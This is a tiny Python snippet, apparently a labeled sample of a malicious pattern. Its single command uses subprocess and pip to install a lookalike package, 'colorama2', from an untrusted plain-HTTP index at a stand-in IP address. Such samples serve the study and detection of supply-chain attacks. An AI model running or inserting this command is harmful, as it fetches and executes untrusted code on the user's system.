# malicious: installs a package from a stranger's address
import subprocess, sys
subprocess.run([sys.executable, "-m", "pip", "install", "--index-url", "http://203.0.113.8/simple", "colorama2"])
